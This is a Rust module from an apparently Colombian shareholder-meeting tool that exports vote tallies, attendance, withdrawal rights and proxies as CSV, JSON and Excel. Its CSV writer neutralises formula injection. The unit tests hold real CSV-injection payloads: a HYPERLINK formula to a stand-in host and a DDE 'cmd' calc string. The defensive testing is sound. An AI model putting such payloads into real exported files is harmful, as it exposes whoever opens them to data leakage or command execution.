//! The tallies as tables — one row per item, one per holder with each
//! closed item's choice, the attendance as it happened (a row per stay),
//! the derecho de retiro list —
//! and those tables as CSV, JSON and an Excel workbook. Built from a
//! meeting the rules engine folded (from an audit bundle that verified:
//! `asamblea export-results`), the holders' names and each ballot's choice,
//! so every figure is the verifier's.
//!
//! Written once here: the command line and the secretary's console use the
//! same tables in the same three formats.

use asamblea_rules::{Attendance, Capacity, Channel, HolderIndex, ItemResult, Meeting, ShareClass};
use serde_json::{json, Map, Value};

use crate::numfmt::percent;

/// The JSON export's schema name and version: `tables`, `meeting` and
/// `verified` as documented in `docs/exports.md`.
pub const SCHEMA: &str = "asamblea-resultados/2";

/// A cell: text, a whole number (shares, counts), or a percentage.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Cell {
    /// Words.
    Text(String),
    /// A whole number.
    Number(u64),
    /// A percentage: `part` of `whole`, truncated to hundredths of a per
    /// cent. Written as its words (`88,16 %`, or `—` of nothing) in CSV
    /// and JSON, and as a number with a percent format in a workbook, so a
    /// spreadsheet can sum and sort it.
    Percent {
        /// The part.
        part: u64,
        /// What it is a part of.
        whole: u64,
    },
}

impl Cell {
    /// A percentage's words, as every document writes it.
    fn percent_text(part: u64, whole: u64) -> String {
        percent(part, whole)
    }

    /// A percentage in basis points (hundredths of a per cent), truncated;
    /// none of nothing.
    fn basis_points(part: u64, whole: u64) -> Option<u64> {
        (whole > 0).then(|| (u128::from(part) * 10_000 / u128::from(whole)) as u64)
    }
}

impl From<&str> for Cell {
    fn from(text: &str) -> Cell {
        Cell::Text(text.to_string())
    }
}

impl From<String> for Cell {
    fn from(text: String) -> Cell {
        Cell::Text(text)
    }
}

impl From<u64> for Cell {
    fn from(n: u64) -> Cell {
        Cell::Number(n)
    }
}

/// A table: a name (the sheet's), its columns, its rows.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Table {
    /// Its name: `puntos`, `accionistas`, `asistencia`, `retiro`, `listas`,
    /// `poderes`.
    pub name: &'static str,
    /// Each column's key (the JSON's, stable: `docs/exports.md`) and its
    /// heading, Spanish (English).
    pub columns: Vec<(String, String)>,
    /// The rows, each as long as `columns`.
    pub rows: Vec<Vec<Cell>>,
}

/// Columns from `(key, heading)` pairs.
pub(crate) fn columns(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs.iter().map(|(key, heading)| (key.to_string(), heading.to_string())).collect()
}

/// What the tables are made from.
pub struct Source<'a> {
    /// The meeting, every event of the bundle folded in.
    pub meeting: &'a Meeting,
    /// The agenda as convened: each item's id and title, in order.
    pub agenda: &'a [(String, String)],
    /// Each holder's name, in the register's order (empty where unknown).
    pub names: &'a [String],
    /// Each ballot's choice in words, by the item's position in
    /// `meeting.items()` and the holder's in the register.
    pub choices: &'a [Vec<Option<String>>],
    /// Every arrival and departure as it happened.
    pub attendance: &'a Attendance,
    /// The powers lodged before the meeting, in the order lodged.
    pub powers: &'a [crate::powers::PowerLine],
}

/// Every table, in order: items, holders, attendance, withdrawal, the
/// elections' lists, and the powers lodged.
pub fn tables(source: &Source<'_>) -> Vec<Table> {
    vec![
        items(source),
        holders(source),
        attendance(source),
        withdrawal(source),
        lists(source),
        powers_table(source.meeting, source.names, source.powers),
    ]
}

/// One row per list of each closed election: its votes, their share of
/// the valid votes, and its seats by quotient, by remainder (or lot) and
/// in all, each in a cell of its own.
fn lists(source: &Source<'_>) -> Table {
    let columns = columns(&[
        ("item", "punto (item)"),
        ("title", "título (title)"),
        ("list", "lista (list)"),
        ("votes", "votos (votes)"),
        ("votes_percent", "% de los votos válidos (% of the valid votes)"),
        ("by_quotient", "puestos por cociente (seats by quotient)"),
        ("by_remainder", "puestos por residuo o sorteo (seats by remainder or lot)"),
        ("seats", "puestos (seats)"),
    ]);
    let mut rows = Vec::new();
    for item in source.meeting.items().iter().filter(|item| item.is_closed()) {
        let Some(ItemResult::Election(e)) = item.result() else { continue };
        for list in crate::explain::lists(item, e) {
            rows.push(vec![
                item.id().into(),
                title_of(source, item.id()).into(),
                list.list.into(),
                list.votes.into(),
                Cell::Percent { part: list.votes, whole: e.valid.get() },
                list.by_quotient.into(),
                list.by_remainder.into(),
                u64::from(list.seats).into(),
            ]);
        }
    }
    Table { name: "listas", columns, rows }
}

fn name_of(source: &Source<'_>, at: HolderIndex) -> String {
    source.names.get(at.get()).cloned().unwrap_or_default()
}

fn title_of<'a>(source: &'a Source<'_>, id: &'a str) -> &'a str {
    source.agenda.iter().find(|(item, _)| item == id).map_or(id, |(_, title)| title.as_str())
}

/// One row per closed item, with every figure and the rule applied.
fn items(source: &Source<'_>) -> Table {
    let mut columns = columns(&[
        ("item", "punto (item)"),
        ("title", "título (title)"),
        ("matter", "asunto (matter)"),
        ("rule", "regla (rule)"),
        ("source", "fuente (source)"),
        ("decision", "decisión (decision)"),
    ]);
    // The votes in the law's words (explain::FIGURES), with the present
    // shares between the impeded and the base.
    let words = |key: &str| {
        let figure = crate::explain::figure(key);
        (key.to_string(), format!("{} ({})", figure.es.to_lowercase(), figure.en.to_lowercase()))
    };
    columns.extend(["for", "against", "blank", "abstain", "impeded"].map(words));
    columns.push(("present".to_string(), "presentes (present)".to_string()));
    columns.push(words("base"));
    columns.extend(self::columns(&[
        ("for_percent", "% a favor de la base (% for of the base)"),
        ("holders_for", "accionistas a favor (holders for)"),
        ("lists", "listas: votos y puestos (lists: votes and seats)"),
        ("why", "por qué (why)"),
    ]));
    let meeting = source.meeting;
    let rows = meeting
        .items()
        .iter()
        .filter(|item| item.is_closed())
        .map(|item| {
            let rule = crate::rule_text::rule_text(meeting.profile(), item.matter(), meeting.kind());
            let why = crate::explain::why(meeting, item).map(|(es, _)| es).unwrap_or_default();
            let mut row: Vec<Cell> = vec![
                item.id().into(),
                title_of(source, item.id()).into(),
                item.matter().spanish().into(),
                rule.es.into(),
                rule.source.into(),
                crate::explain::outcome_es(item).into(),
            ];
            match item.result() {
                Some(ItemResult::Decision(d)) => {
                    for shares in [d.for_votes, d.against, d.blank, d.abstain, d.impeded, d.present, d.base] {
                        row.push(shares.get().into());
                    }
                    row.push(Cell::Percent { part: d.for_votes.get(), whole: d.base.get() });
                    row.push(u64::from(d.holders_for).into());
                    row.push("".into());
                }
                Some(ItemResult::Election(e)) => {
                    let lists = crate::explain::lists_in_words(item, e);
                    // for, against: none; blank; abstained, impeded,
                    // present: none; the base: a single seat's E, which
                    // its explanation names (R8, OQ8); a board's V, the
                    // valid votes its quotient divides.
                    row.extend(["", ""].map(Cell::from));
                    row.push(e.blank.get().into());
                    row.extend(["", "", ""].map(Cell::from));
                    row.push(crate::explain::election_base(item, e).get().into());
                    row.extend(["", ""].map(Cell::from));
                    row.push(lists.join("; ").into());
                }
                None => row.extend(std::iter::repeat_n(Cell::from(""), 10)),
            }
            row.push(why.into());
            row
        })
        .collect();
    Table { name: "puntos", columns, rows }
}

/// How a holder was present at the end: in person, through whom, or not.
fn channel(meeting: &Meeting, at: HolderIndex) -> String {
    match meeting.presence().channel(at) {
        Channel::Absent => "ausente".to_string(),
        Channel::InPerson => "en persona".to_string(),
        Channel::Agent { agent, capacity, .. } => {
            let who = meeting.presence().agent_id(agent);
            match capacity {
                Capacity::Proxy => format!("apoderado {who}"),
                Capacity::LegalRepresentative => format!("representante legal {who}"),
            }
        }
    }
}

/// One row per holder: shares, how present at the end, and each closed
/// item's choice ("no votó" where the holder cast no ballot: absent, or
/// present and abstaining).
fn holders(source: &Source<'_>) -> Table {
    let meeting = source.meeting;
    let closed: Vec<usize> = (0..meeting.items().len()).filter(|&i| meeting.items()[i].is_closed()).collect();
    let classes = crate::attendance::classes(meeting);
    let mut columns = columns(&[("holder", "documento (id)"), ("name", "nombre (name)")]);
    columns.extend(classes.iter().map(|&class| class_column(class)));
    columns.extend(self::columns(&[("presence", "asistencia al cierre (presence at the end)")]));
    // Each vote's column headed by the item's title, as the agenda reads
    // (the JSON's key keeps the item's id).
    columns.extend(closed.iter().map(|&i| {
        let id = meeting.items()[i].id();
        (format!("vote:{id}"), format!("{} (voto / vote)", title_of(source, id)))
    }));
    let rows = meeting
        .register()
        .iter()
        .map(|(at, holder)| {
            let mut row: Vec<Cell> = vec![holder.id().into(), name_of(source, at).into()];
            row.extend(classes.iter().map(|&class| Cell::from(holder.holdings().of(class).get())));
            row.push(channel(meeting, at).into());
            for &i in &closed {
                let choice = source.choices.get(i).and_then(|c| c.get(at.get())).cloned().flatten();
                row.push(choice.unwrap_or_else(|| "no votó".to_string()).into());
            }
            row
        })
        .collect();
    Table { name: "accionistas", columns, rows }
}

/// A share class's column: `ordinary`, `ordinarias (ordinary)`.
pub(crate) fn class_column(class: ShareClass) -> (String, String) {
    let en = match class {
        ShareClass::Ordinary => "ordinary",
        ShareClass::Preferred => "preferred",
    };
    (en.to_string(), format!("{} ({en})", crate::attendance::class_es(class)))
}

/// Every stay of a holder in the room, in the order of arrival: who was
/// present for whom, in what capacity, from which record to which (a
/// holder who left and came back has a row per stay; one still present at
/// the end has no departure).
fn attendance(source: &Source<'_>) -> Table {
    use crate::attendance::{attending_es, day_and_clock, Names};
    let meeting = source.meeting;
    let classes = crate::attendance::classes(meeting);
    let names = Names::new(meeting, source.names);
    let mut columns = columns(&[
        ("person", "asistente: documento (attendee: id)"),
        ("attendee", "asistente (attendee)"),
        ("capacity", "calidad (capacity)"),
        ("holder", "accionista: documento (holder: id)"),
        ("name", "accionista (holder)"),
    ]);
    columns.extend(classes.iter().map(|&class| class_column(class)));
    columns.extend(self::columns(&[
        ("arrived", "llegada (arrived), hora de Colombia"),
        ("arrived_record", "registro de llegada (arrival record)"),
        ("left", "salida (left), hora de Colombia"),
        ("left_record", "registro de salida (departure record)"),
    ]));
    let visits = source.attendance.visits();
    let rows = source
        .attendance
        .stays()
        .iter()
        .map(|stay| {
            let visit = &visits[stay.visit];
            let holder = meeting.register().holder(stay.holder);
            let mut row: Vec<Cell> = vec![
                visit.person.to_string().into(),
                names.person(&[visit]).into(),
                attending_es(stay.attending).into(),
                holder.id().into(),
                names.holder(stay.holder).into(),
            ];
            row.extend(classes.iter().map(|&class| Cell::from(holder.holdings().of(class).get())));
            row.push(day_and_clock(stay.arrived).into());
            row.push(stay.arrived.seq.into());
            match stay.left {
                Some(left) => {
                    row.push(day_and_clock(left).into());
                    row.push(left.seq.into());
                }
                None => row.extend(["", ""].map(Cell::from)),
            }
            row
        })
        .collect();
    Table { name: "asistencia", columns, rows }
}

/// Who may withdraw, per item that gives the right (R18): the absent and
/// the dissenting, with their shares.
fn withdrawal(source: &Source<'_>) -> Table {
    let meeting = source.meeting;
    let columns = columns(&[
        ("item", "punto (item)"),
        ("holder", "documento (id)"),
        ("name", "nombre (name)"),
        ("shares", "acciones (shares)"),
        ("why", "por qué (why)"),
    ]);
    let mut rows = Vec::new();
    for item in meeting.items() {
        let Some(ItemResult::Decision(d)) = item.result() else { continue };
        for &at in d.withdrawal.iter().flatten() {
            let holder = meeting.register().holder(at);
            rows.push(vec![
                item.id().into(),
                holder.id().into(),
                name_of(source, at).into(),
                holder.holdings().total().get().into(),
                crate::explain::withdrawal_reason(item, at).into(),
            ]);
        }
    }
    Table { name: "retiro", columns, rows }
}

/// The `poderes` table: one row per power and principal, with the
/// verdict, the document's hash, any revocation and who carried them.
fn powers_table(meeting: &Meeting, names: &[String], powers: &[crate::powers::PowerLine]) -> Table {
    use crate::attendance::{classes, Names};
    let names = Names::new(meeting, names);
    let classes = classes(meeting);
    let mut columns = columns(&[
        ("power", "poder (power)"),
        ("holder", "poderdante: documento (principal: id)"),
        ("name", "poderdante (principal)"),
    ]);
    columns.extend(classes.iter().map(|&class| class_column(class)));
    columns.extend(self::columns(&[
        ("agent", "apoderado: documento (agent: id)"),
        ("agent_name", "apoderado (agent)"),
        ("verdict", "dictamen (verdict)"),
        ("reason", "motivo del rechazo (why refused)"),
        ("received", "recibido (received)"),
        ("document_sha256", "documento, SHA-256 (document)"),
        ("revoked", "revocado (revoked)"),
        ("carried_by", "lo llevó (carried by)"),
        ("substitute", "como sustituto (as substitute)"),
    ]));
    let mut rows = Vec::new();
    for p in powers {
        for id in &p.principals {
            let at = meeting.register().lookup(id);
            let mut row: Vec<Cell> = vec![
                p.reference.as_str().into(),
                id.as_str().into(),
                at.map_or("", |at| names.holder(at)).into(),
            ];
            row.extend(classes.iter().map(|&class| {
                Cell::from(at.map_or(0, |at| meeting.register().holder(at).holdings().of(class).get()))
            }));
            let used = p.used.iter().find(|u| u.principal == *id);
            row.extend([
                Cell::from(p.agent.clone().unwrap_or_default()),
                p.agent_name.as_str().into(),
                p.refused.as_ref().map_or("aceptado", |(code, _)| code.as_str()).into(),
                p.refused.as_ref().map_or("", |(_, why)| why.as_str()).into(),
                p.received.as_str().into(),
                p.document_sha256.as_str().into(),
                p.revoked.iter().find(|(who, _)| who == id).map_or("", |(_, why)| why.as_str()).into(),
                used.map_or("", |u| u.by.as_str()).into(),
                used.map_or("", |u| if u.substitute { "sí" } else { "no" }).into(),
            ]);
            rows.push(row);
        }
    }
    Table { name: "poderes", columns, rows }
}

/// CSV's two flavours.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum CsvFlavour {
    /// For Excel in Colombia (the default): UTF-8 with a byte-order mark,
    /// `;` between fields (the decimal separator is the comma there).
    Excel,
    /// RFC 4180: UTF-8, `,` between fields, for programs.
    Plain,
}

/// The first characters that make a spreadsheet read a cell as a formula
/// (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, a tab and a carriage
/// return. `docs/exports.md` lists them for a reader.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text field as a spreadsheet must read it: as text, never a formula.
/// When its first character that is not an apostrophe is one of
/// [`FORMULA_STARTS`], one `'` is put before it (a cell that starts with
/// `'` is text in Excel and LibreOffice); any other text is given back as
/// it is. Counting the apostrophes already there makes the rule exact: a
/// reader recovers the original by dropping one leading `'` from a field
/// whose first character that is not `'` is one of [`FORMULA_STARTS`]
/// (`docs/exports.md`). The one rule of every CSV asamblea writes.
pub fn neutralised(text: &str) -> std::borrow::Cow<'_, str> {
    if text.trim_start_matches('\'').starts_with(FORMULA_STARTS) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// One table as CSV: a heading row, then the rows; numbers as plain
/// digits; every text [`neutralised`], and quoted when it was, or when it
/// holds the separator, a quote or a line break (its quotes doubled).
/// Lines end in CRLF (RFC 4180).
pub fn csv(table: &Table, flavour: CsvFlavour) -> String {
    let separator = if flavour == CsvFlavour::Excel { ';' } else { ',' };
    let field = |text: &str| match neutralised(text) {
        std::borrow::Cow::Owned(text) => format!("\"{}\"", text.replace('"', "\"\"")),
        std::borrow::Cow::Borrowed(text) if text.contains([separator, '"', '\n', '\r']) => {
            format!("\"{}\"", text.replace('"', "\"\""))
        }
        std::borrow::Cow::Borrowed(text) => text.to_string(),
    };
    let mut out = String::new();
    if flavour == CsvFlavour::Excel {
        out.push('\u{feff}');
    }
    let line = |cells: Vec<String>| cells.join(&separator.to_string()) + "\r\n";
    out.push_str(&line(table.columns.iter().map(|(_, heading)| field(heading)).collect()));
    for row in &table.rows {
        out.push_str(&line(
            row.iter()
                .map(|cell| match cell {
                    Cell::Text(text) => field(text),
                    Cell::Number(n) => n.to_string(),
                    Cell::Percent { part, whole } => field(&Cell::percent_text(*part, *whole)),
                })
                .collect(),
        ));
    }
    out
}

/// Every table as the JSON export ([`SCHEMA`]): each table's rows as
/// objects keyed by column, numbers as numbers, with `meeting` and
/// `verified` as given.
pub fn json(tables: &[Table], meeting: Value, verified: Value) -> Value {
    let mut out = Map::new();
    out.insert("schema".into(), SCHEMA.into());
    out.insert("meeting".into(), meeting);
    out.insert("verified".into(), verified);
    let mut all = Map::new();
    for table in tables {
        let rows: Vec<Value> = table
            .rows
            .iter()
            .map(|row| {
                let object: Map<String, Value> = table
                    .columns
                    .iter()
                    .zip(row)
                    .map(|((key, _), cell)| {
                        let value = match cell {
                            Cell::Text(text) => json!(text),
                            Cell::Number(n) => json!(n),
                            Cell::Percent { part, whole } => json!(Cell::percent_text(*part, *whole)),
                        };
                        (key.clone(), value)
                    })
                    .collect();
                Value::Object(object)
            })
            .collect();
        all.insert(table.name.into(), Value::Array(rows));
    }
    out.insert("tables".into(), Value::Object(all));
    Value::Object(out)
}

/// Shares above this are written as text in a workbook: a spreadsheet's
/// numbers are doubles, exact only up to 2^53.
const EXACT_IN_A_SPREADSHEET: u64 = 1 << 53;

/// The widest a column of words grows in a workbook, in characters;
/// longer words wrap inside the cell, so a sheet prints a page wide.
const WIDEST_TEXT: usize = 28;

/// Every table as an Excel workbook, a sheet each: real numbers (a
/// percentage as a number with a percent format), the heading row frozen
/// and bold, columns as wide as their contents up to [`WIDEST_TEXT`] (the
/// rest wraps), and set up to print: landscape on Carta, a page wide, the
/// heading row on every page, the meeting's title in the page's header and
/// the page number in its footer. `created` (year, month, day) is the
/// workbook's date, taken from the meeting so that the same bundle gives
/// the same bytes.
pub fn xlsx(tables: &[Table], title: &str, created: (u16, u8, u8)) -> Result<Vec<u8>, String> {
    use rust_xlsxwriter::{DocProperties, ExcelDateTime, Format, FormatAlign, Workbook};
    let fail = |e: rust_xlsxwriter::XlsxError| e.to_string();
    let mut workbook = Workbook::new();
    let date = ExcelDateTime::from_ymd(created.0, created.1, created.2).map_err(fail)?;
    workbook.set_properties(
        &DocProperties::new().set_title(title).set_author("asamblea").set_creation_datetime(&date),
    );
    let bold = Format::new().set_bold().set_text_wrap().set_align(FormatAlign::Top);
    let thousands = Format::new().set_num_format("#,##0").set_align(FormatAlign::Top);
    let percent = Format::new().set_num_format("0.00%").set_align(FormatAlign::Top);
    let words = Format::new().set_text_wrap().set_align(FormatAlign::Top);
    // `&` starts a code in a page header: written `&&`.
    let header_title = title.replace('&', "&&");
    for table in tables {
        let sheet = workbook.add_worksheet();
        sheet.set_name(table.name).map_err(fail)?;
        let mut widths: Vec<usize> =
            table.columns.iter().map(|(_, h)| h.chars().count().min(WIDEST_TEXT / 2)).collect();
        for (col, (_, heading)) in table.columns.iter().enumerate() {
            sheet.write_string_with_format(0, col as u16, heading, &bold).map_err(fail)?;
        }
        for (r, row) in table.rows.iter().enumerate() {
            let r = u32::try_from(r + 1).map_err(|_| "too many rows for a sheet".to_string())?;
            for (col, cell) in row.iter().enumerate() {
                let width = match cell {
                    Cell::Number(n) if *n <= EXACT_IN_A_SPREADSHEET => {
                        sheet.write_number_with_format(r, col as u16, *n as f64, &thousands).map_err(fail)?;
                        n.to_string().len() + n.to_string().len() / 3
                    }
                    Cell::Number(n) => {
                        sheet.write_string_with_format(r, col as u16, n.to_string(), &words).map_err(fail)?;
                        n.to_string().len()
                    }
                    Cell::Percent { part, whole } => match Cell::basis_points(*part, *whole) {
                        Some(points) => {
                            // The fraction read from its decimal digits: the
                            // nearest double, and no floating-point arithmetic
                            // outside the PDF's geometry.
                            let fraction: f64 = format!("{}.{:04}", points / 10_000, points % 10_000)
                                .parse()
                                .map_err(|e: std::num::ParseFloatError| e.to_string())?;
                            sheet
                                .write_number_with_format(r, col as u16, fraction, &percent)
                                .map_err(fail)?;
                            8
                        }
                        None => {
                            sheet.write_string_with_format(r, col as u16, "—", &words).map_err(fail)?;
                            1
                        }
                    },
                    Cell::Text(text) => {
                        sheet.write_string_with_format(r, col as u16, text, &words).map_err(fail)?;
                        text.chars().count()
                    }
                };
                widths[col] = widths[col].max(width);
            }
        }
        for (col, width) in widths.iter().enumerate() {
            let width = u32::try_from((*width).clamp(8, WIDEST_TEXT) + 2).unwrap_or(30);
            sheet.set_column_width(col as u16, f64::from(width)).map_err(fail)?;
        }
        sheet.set_freeze_panes(1, 0).map_err(fail)?;
        // Printed: landscape Carta (paper 1, Letter), a page wide and as
        // many tall as it takes, the headings on every page.
        sheet.set_landscape();
        sheet.set_paper_size(1);
        sheet.set_print_fit_to_pages(1, 0);
        sheet.set_repeat_rows(0, 0).map_err(fail)?;
        sheet.set_margins(0.4, 0.4, 0.6, 0.6, 0.3, 0.3);
        sheet.set_print_gridlines(true);
        sheet.set_header(format!("&L{header_title}&R{}", table.name));
        sheet.set_footer("&CPágina &P de &N");
    }
    workbook.save_to_buffer().map_err(fail)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A one-column table holding `texts`, then the number 7, as CSV.
    fn check(texts: &[&str], flavour: CsvFlavour, expected: &str) {
        let mut rows: Vec<Vec<Cell>> = texts.iter().map(|t| vec![Cell::from(*t), Cell::from(7)]).collect();
        rows.push(vec![Cell::from("fin"), Cell::from(u64::MAX)]);
        let table = Table { name: "t", columns: columns(&[("a", "a"), ("n", "n")]), rows };
        let written = csv(&table, flavour);
        let body = written.trim_start_matches('\u{feff}');
        assert_eq!(body, expected, "{texts:?} as {flavour:?}");
    }

    #[test]
    fn a_field_a_spreadsheet_would_read_as_a_formula_is_written_as_text_and_numbers_stay_numbers() {
        check(
            &[
                "=HYPERLINK(\"http://evil.example/?x\",\"clic\")",
                "+cmd|' /C calc'!A0",
                "-1-1",
                "@SUM(1)",
                "\tx",
                "\ry",
                "Ana",
            ],
            CsvFlavour::Plain,
            "a,n\r\n\
             \"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"clic\"\")\",7\r\n\
             \"'+cmd|' /C calc'!A0\",7\r\n\
             \"'-1-1\",7\r\n\
             \"'@SUM(1)\",7\r\n\
             \"'\tx\",7\r\n\
             \"'\ry\",7\r\n\
             Ana,7\r\n\
             fin,18446744073709551615\r\n",
        );
        check(
            &["=1+1", "a;b"],
            CsvFlavour::Excel,
            "a;n\r\n\"'=1+1\";7\r\n\"a;b\";7\r\nfin;18446744073709551615\r\n",
        );
        // A text that already starts with apostrophes before a formula's
        // first character gets one more, so that dropping one always gives
        // the original back; an apostrophe before anything else stays.
        check(
            &["'=1", "''-2", "'t Hooft", "'"],
            CsvFlavour::Plain,
            "a,n\r\n\"''=1\",7\r\n\"'''-2\",7\r\n't Hooft,7\r\n',7\r\nfin,18446744073709551615\r\n",
        );
    }

    /// The reader's rule of `docs/exports.md`: a field whose first
    /// character that is not `'` is one of the formula's first characters
    /// loses one leading `'`.
    fn recovered(field: &str) -> String {
        let rest = field.trim_start_matches('\'');
        if field.starts_with('\'') && rest.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            field[1..].to_string()
        } else {
            field.to_string()
        }
    }

    #[test]
    fn the_reader_recovers_every_text_by_dropping_one_apostrophe() {
        let pieces = ["", "'", "''", "=", "+", "-", "@", "\t", "\r", "a", "1", " ", "\"", ";"];
        for a in pieces {
            for b in pieces {
                for c in pieces {
                    let text = format!("{a}{b}{c}");
                    assert_eq!(recovered(&neutralised(&text)), text, "{text:?}");
                }
            }
        }
    }
}
